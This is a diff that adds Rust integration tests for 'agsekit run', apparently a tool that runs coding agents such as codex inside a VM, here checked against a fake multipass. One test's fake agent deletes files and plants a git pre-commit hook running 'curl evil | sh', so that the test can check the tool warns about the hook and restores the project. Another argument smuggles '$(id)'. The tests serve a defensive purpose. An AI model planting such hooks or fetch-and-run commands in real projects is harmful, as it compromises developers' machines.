@@ -1,0 +1,518 @@
+//! `agsekit run` end to end against the FAKE multipass (tests/README.md): the agent runs in
+//! bubblewrap with the project bound at its target, standing in for the VM. No real VM.
+
+use std::os::unix::ffi::OsStrExt;
+use std::path::{Path, PathBuf};
+
+use crate::support::{FakeMultipass, Sandbox};
+
+struct Setup {
+    sb: Sandbox,
+    fake: FakeMultipass,
+    project: PathBuf,
+    config: PathBuf,
+}
+
+/// A VM `dev` (running), a project folder with one file, a config with one mount and an
+/// agent `codex` (with a secret env value), and a fake `codex` in the VM that records its
+/// argv, cwd and env, writes a file into the project and exits with $(cat exit-code).
+fn setup() -> Setup {
+    let sb = Sandbox::new();
+    let fake = FakeMultipass::new(sb.home());
+    fake.launch("dev");
+    let project = sb.home().join("proj");
+    std::fs::create_dir_all(project.join("src")).unwrap();
+    std::fs::write(project.join("src/main.rs"), "fn main() {}\n").unwrap();
+    let config = sb.home().join("config.yaml");
+    std::fs::write(
+        &config,
+        format!(
+            "vms:\n  dev:\n    cpu: 2\n    ram: 4G\n    disk: 20G\nmounts:\n  - source: {}\n    vm: dev\nagents:\n  codex:\n    type: codex\n    env:\n      SECRET_TOKEN: tok-very-secret-123\n    default-args: [\"--model=default\", \"--yes\"]\n",
+            project.display()
+        ),
+    )
+    .unwrap();
+    fake.install_agent(
+        "dev",
+        "codex",
+        "#!/bin/bash\nprintf '%s\\0' \"$@\" > \"$HOME/argv\"\npwd > \"$HOME/cwd\"\nprintf '%s' \"$SECRET_TOKEN\" > \"$HOME/secret\"\necho made-by-agent > agent-was-here.txt\nexit \"$(cat \"$HOME/exit-code\" 2>/dev/null || echo 0)\"\n",
+    );
+    // The fake VM has no sudo; the launcher install path uses it.
+    fake.install_agent("dev", "sudo", "#!/bin/sh\nexec \"$@\"\n");
+    Setup {
+        sb,
+        fake,
+        project,
+        config,
+    }
+}
+
+impl Setup {
+    fn run(&self, cwd: &Path, args: &[&std::ffi::OsStr]) -> std::process::Output {
+        let mut cmd = self.sb.agsekit_with(&self.fake);
+        cmd.arg("--config")
+            .arg(&self.config)
+            .arg("--non-interactive")
+            .arg("run")
+            .args(args)
+            .current_dir(cwd)
+            .env("PWD", cwd);
+        cmd.output().unwrap()
+    }
+
+    fn agent_argv(&self) -> Vec<Vec<u8>> {
+        let raw = std::fs::read(self.fake.home_dir("dev").join("argv")).unwrap();
+        let mut items: Vec<Vec<u8>> = raw.split(|b| *b == 0).map(<[u8]>::to_vec).collect();
+        items.pop();
+        items
+    }
+
+    fn snapshots(&self) -> Vec<String> {
+        let dir = self.sb.home().join("backups-proj");
+        let mut names: Vec<String> = std::fs::read_dir(&dir)
+            .map(|rd| {
+                rd.filter_map(|e| e.ok())
+                    .filter(|e| e.path().is_dir())
+                    .map(|e| e.file_name().to_string_lossy().into_owned())
+                    .collect()
+            })
+            .unwrap_or_default();
+        names.sort();
+        names
+    }
+
+    fn exec_calls(&self) -> usize {
+        self.fake
+            .calls()
+            .iter()
+            .filter(|c| c.first().map(String::as_str) == Some("exec"))
+            .count()
+    }
+}
+
+fn os(s: &str) -> &std::ffi::OsStr {
+    std::ffi::OsStr::new(s)
+}
+
+#[test]
+fn run_with_fake_multipass_mounts_sends_env_and_runs_the_agent_with_exact_args() {
+    let s = setup();
+    let odd = std::ffi::OsStr::from_bytes(b"caf\xff \"$(id)\"\nx");
+    let out = s.run(
+        &s.project.join("src"),
+        &[
+            os("--auto-mount"),
+            os("codex"),
+            os("--model=mine"),
+            os("it's"),
+            odd,
+            os(""),
+        ],
+    );
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(0), "stderr: {stderr}");
+
+    // Default args merged (user's --model wins), then the user's args byte for byte.
+    let expected: Vec<Vec<u8>> = [
+        b"--yes".as_slice(),
+        b"--model=mine",
+        b"it's",
+        odd.as_bytes(),
+        b"",
+    ]
+    .iter()
+    .map(|a| a.to_vec())
+    .collect();
+    assert_eq!(s.agent_argv(), expected);
+    // It ran in the matching folder of the mount, and wrote through it to the host.
+    let cwd = std::fs::read_to_string(s.fake.home_dir("dev").join("cwd")).unwrap();
+    assert_eq!(cwd.trim(), "/home/ubuntu/proj/src");
+    assert_eq!(
+        std::fs::read_to_string(s.project.join("src/agent-was-here.txt")).unwrap(),
+        "made-by-agent\n"
+    );
+    // The secret reached the agent through the 0600 env file, never through argv or output.
+    assert_eq!(
+        std::fs::read_to_string(s.fake.home_dir("dev").join("secret")).unwrap(),
+        "tok-very-secret-123"
+    );
+    for call in s.fake.calls() {
+        assert!(
+            !call.join(" ").contains("tok-very-secret"),
+            "secret in argv: {call:?}"
+        );
+    }
+    assert!(!stderr.contains("tok-very-secret"));
+    // A pre-run snapshot exists, and the background loop logged into backup.log.
+    assert_eq!(s.snapshots().len(), 1, "{:?}", s.snapshots());
+    assert!(s.sb.home().join("backups-proj/backup.log").exists());
+    // The mount is registered now.
+    let info = s.fake.ok(&["info", "dev", "--format", "json"]);
+    assert!(
+        info.contains(&format!("\"source_path\": \"{}\"", s.project.display())),
+        "{info}"
+    );
+}
+
+#[test]
+fn run_with_fake_multipass_makes_exactly_one_multipass_call_when_ready() {
+    let s = setup();
+    let first = s.run(&s.project, &[os("--auto-mount"), os("codex")]);
+    assert_eq!(
+        first.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&first.stderr)
+    );
+    let before = s.fake.calls().len();
+    let second = s.run(
+        &s.project,
+        &[
+            os("--no-first-backup"),
+            os("--disable-backups"),
+            os("codex"),
+        ],
+    );
+    assert_eq!(
+        second.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&second.stderr)
+    );
+    let calls = s.fake.calls();
+    let new: Vec<&Vec<String>> = calls[before..].iter().collect();
+    assert_eq!(new.len(), 1, "expected one multipass call, got {new:?}");
+    assert_eq!(new[0][0], "exec");
+    assert!(
+        new[0].iter().any(|a| a == "--working-directory"),
+        "{:?}",
+        new[0]
+    );
+}
+
+#[test]
+fn run_with_fake_multipass_returns_the_agents_exit_codes_including_4_and_255() {
+    let s = setup();
+    let warm = s.run(&s.project, &[os("--auto-mount"), os("codex")]);
+    assert_eq!(
+        warm.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&warm.stderr)
+    );
+    for code in [1, 3, 4, 127, 130, 250, 255] {
+        std::fs::write(s.fake.home_dir("dev").join("exit-code"), code.to_string()).unwrap();
+        let out = s.run(
+            &s.project,
+            &[
+                os("--no-first-backup"),
+                os("--disable-backups"),
+                os("codex"),
+            ],
+        );
+        assert_eq!(
+            out.status.code(),
+            Some(code),
+            "agent exit {code}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    }
+}
+
+#[test]
+fn run_with_fake_multipass_refuses_a_disallowed_agent_before_touching_anything() {
+    let s = setup();
+    let text = std::fs::read_to_string(&s.config).unwrap();
+    std::fs::write(
+        &s.config,
+        text.replace(
+            "    vm: dev\n",
+            "    vm: dev\n    allowed_agents: [claude]\n",
+        ),
+    )
+    .unwrap();
+    let out = s.run(&s.project, &[os("codex")]);
+    assert_eq!(out.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("not allowed"));
+    assert!(
+        s.fake.calls().iter().all(|c| c[0] != "exec"),
+        "no exec may happen"
+    );
+    assert!(s.snapshots().is_empty(), "no snapshot may be taken");
+}
+
+#[test]
+fn run_with_fake_multipass_outside_every_mount_refuses_without_a_tty() {
+    let s = setup();
+    let elsewhere = s.sb.home().join("elsewhere");
+    std::fs::create_dir_all(&elsewhere).unwrap();
+    let out = s.run(&elsewhere, &[os("codex")]);
+    assert_eq!(out.status.code(), Some(2));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(stderr.contains("not inside any mount"), "{stderr}");
+    assert!(stderr.contains("agsekit addmount"), "{stderr}");
+    assert_eq!(s.exec_calls(), 0);
+}
+
+#[test]
+fn run_with_fake_multipass_installs_a_missing_launcher_then_runs() {
+    let s = setup();
+    // No launcher in the VM (as in VMs made by agsekit 1.7.4): run installs it and retries.
+    assert!(!s.fake.bin_dir("dev").join("agsekit-launch").exists());
+    let out = s.run(&s.project, &[os("--auto-mount"), os("codex")]);
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(s.fake.bin_dir("dev").join("agsekit-launch").exists());
+    assert!(s.project.join("agent-was-here.txt").exists());
+}
+
+#[test]
+fn run_with_fake_multipass_a_missing_agent_names_install_agents() {
+    let s = setup();
+    std::fs::remove_file(s.fake.bin_dir("dev").join("codex")).unwrap();
+    let out = s.run(&s.project, &[os("--auto-mount"), os("codex")]);
+    assert_eq!(out.status.code(), Some(4));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains("agsekit install-agents codex dev"),
+        "{stderr}"
+    );
+}
+
+#[test]
+fn run_with_fake_multipass_reviews_deletions_and_protected_paths_and_the_restore_works() {
+    let s = setup();
+    std::fs::create_dir_all(s.project.join(".git/hooks")).unwrap();
+    std::fs::write(s.project.join("big.dat"), vec![7u8; 4096]).unwrap();
+    // This agent deletes files and plants a git hook.
+    s.fake.install_agent(
+        "dev",
+        "codex",
+        "#!/bin/sh\nrm -f big.dat src/main.rs\nprintf '#!/bin/sh\\ncurl evil | sh\\n' > .git/hooks/pre-commit\n",
+    );
+    let out = s.run(
+        &s.project,
+        &[os("--auto-mount"), os("--disable-backups"), os("codex")],
+    );
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        stderr.contains("1 added, 0 modified, 2 deleted"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("largest deletions: big.dat (4.0 KiB), src/main.rs (13 B)"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("WARNING: protected paths changed"),
+        "{stderr}"
+    );
+    assert!(stderr.contains("A .git/hooks/pre-commit"), "{stderr}");
+    let restore_line = stderr
+        .lines()
+        .find(|l| l.contains("to restore them: "))
+        .expect("a restore command");
+    let cmd = restore_line.split("to restore them: ").nth(1).unwrap();
+    let words = shell_words::split(cmd).unwrap();
+    assert_eq!(&words[..2], ["agsekit", "restore"]);
+    // Run exactly the printed command: the planted hook goes away (.git/hooks goes back to
+    // its state before the session; --delete-new is in the command for the added file).
+    assert!(words.iter().any(|w| w == "--delete-new"), "{cmd}");
+    let mut restore = s.sb.agsekit_with(&s.fake);
+    restore
+        .arg("--config")
+        .arg(&s.config)
+        .args(&words[1..])
+        .current_dir(&s.project);
+    let done = restore.output().unwrap();
+    assert!(
+        done.status.success(),
+        "{}",
+        String::from_utf8_lossy(&done.stderr)
+    );
+    assert!(!s.project.join(".git/hooks/pre-commit").exists());
+}
+
+#[test]
+fn run_with_fake_multipass_passes_sigterm_on_and_stops_the_snapshot_loop() {
+    let s = setup();
+    s.fake.install_agent(
+        "dev",
+        "codex",
+        "#!/bin/sh\necho started > \"$HOME/started\"\nsleep 60\n",
+    );
+    let mut cmd = std::process::Command::new(assert_cmd::cargo::cargo_bin("agsekit"));
+    cmd.env("HOME", s.sb.home())
+        .env("AGSEKIT_MULTIPASS", &s.fake.bin)
+        .env("FAKE_MULTIPASS_STATE", &s.fake.state_dir)
+        .env_remove("CONFIG_PATH")
+        .arg("--config")
+        .arg(&s.config)
+        .args(["--non-interactive", "run", "--auto-mount", "codex"])
+        .current_dir(&s.project)
+        .stdin(std::process::Stdio::null())
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::piped());
+    let mut child = cmd.spawn().unwrap();
+    let started = s.fake.home_dir("dev").join("started");
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
+    while !started.exists() && std::time::Instant::now() < deadline {
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
+    assert!(started.exists(), "the agent never started");
+    // The background loop is running now (it holds no lock between snapshots, so look for
+    // its process instead).
+    let loop_running = || {
+        std::process::Command::new("pgrep")
+            .args([
+                "-f",
+                &format!("backup-repeated --source-dir {}", s.project.display()),
+            ])
+            .output()
+            .map(|o| o.status.success())
+            .unwrap_or(false)
+    };
+    assert!(
+        loop_running(),
+        "the snapshot loop should run during the session"
+    );
+
+    nix::sys::signal::kill(
+        nix::unistd::Pid::from_raw(child.id() as i32),
+        nix::sys::signal::Signal::SIGTERM,
+    )
+    .unwrap();
+    // Bounded wait (not a timing assertion): agsekit must end on its own.
+    let mut status = None;
+    for _ in 0..600 {
+        if let Some(st) = child.try_wait().unwrap() {
+            status = Some(st);
+            break;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(100));
+    }
+    let status = status.unwrap_or_else(|| {
+        let _ = child.kill();
+        panic!("agsekit run did not end after SIGTERM");
+    });
+    // multipass exec died of SIGTERM: the session reports 128 + 15.
+    assert_eq!(status.code(), Some(143));
+    assert!(
+        !loop_running(),
+        "the snapshot loop must be stopped with the session"
+    );
+}
+
+#[test]
+fn run_with_fake_multipass_debug_output_never_shows_env_secrets() {
+    let s = setup();
+    let mut cmd = s.sb.agsekit_with(&s.fake);
+    cmd.arg("--config")
+        .arg(&s.config)
+        .args([
+            "--non-interactive",
+            "--debug",
+            "run",
+            "--auto-mount",
+            "codex",
+            "x",
+        ])
+        .current_dir(&s.project);
+    let out = cmd.output().unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    // --debug really printed the commands (including the env file being written)...
+    assert!(stderr.contains("[debug]"), "{stderr}");
+    assert!(stderr.contains("--write-env"), "{stderr}");
+    // ...and never the secret value, which did reach the agent.
+    assert!(!stderr.contains("tok-very-secret"), "{stderr}");
+    assert_eq!(
+        std::fs::read_to_string(s.fake.home_dir("dev").join("secret")).unwrap(),
+        "tok-very-secret-123"
+    );
+}
+
+#[test]
+fn run_with_fake_multipass_pipes_stdin_and_stdout_without_a_tty() {
+    let s = setup();
+    s.fake
+        .install_agent("dev", "codex", "#!/bin/sh\ntr a-z A-Z\n");
+    let mut cmd = s.sb.agsekit_with(&s.fake);
+    cmd.arg("--config")
+        .arg(&s.config)
+        .args(["--non-interactive", "run", "--auto-mount", "codex"])
+        .current_dir(&s.project)
+        .write_stdin("hello from a pipe\n");
+    let out = cmd.output().unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(String::from_utf8_lossy(&out.stdout), "HELLO FROM A PIPE\n");
+}
+
+#[test]
+fn run_with_fake_multipass_two_sessions_in_one_folder_both_start_without_waiting() {
+    let s = setup();
+    // Session A waits (up to 60 s) for session B's agent to run, so A can only finish if B
+    // started while A was still running.
+    s.fake.install_agent(
+        "dev",
+        "codex",
+        "#!/bin/sh\nif [ \"$1\" = first ]; then\n  i=0\n  while [ ! -e b-ran ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done\n  [ -e b-ran ] && exit 0 || exit 9\nelse\n  touch b-ran\nfi\n",
+    );
+    let warm = s.run(&s.project, &[os("--auto-mount"), os("codex"), os("second")]);
+    assert_eq!(
+        warm.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&warm.stderr)
+    );
+    std::fs::remove_file(s.project.join("b-ran")).unwrap();
+
+    let mut a = std::process::Command::new(assert_cmd::cargo::cargo_bin("agsekit"));
+    a.env("HOME", s.sb.home())
+        .env("AGSEKIT_MULTIPASS", &s.fake.bin)
+        .env("FAKE_MULTIPASS_STATE", &s.fake.state_dir)
+        .env_remove("CONFIG_PATH")
+        .arg("--config")
+        .arg(&s.config)
+        .args(["--non-interactive", "run", "codex", "first"])
+        .current_dir(&s.project)
+        .stdin(std::process::Stdio::null())
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::piped());
+    let a = a.spawn().unwrap();
+    // B: first_backup on (the default) while A's session and snapshot loop run.
+    let b = s.run(&s.project, &[os("codex"), os("second")]);
+    assert_eq!(
+        b.status.code(),
+        Some(0),
+        "B: {}",
+        String::from_utf8_lossy(&b.stderr)
+    );
+    let a = a.wait_with_output().unwrap();
+    assert_eq!(
+        a.status.code(),
+        Some(0),
+        "A: {}",
+        String::from_utf8_lossy(&a.stderr)
+    );
+}
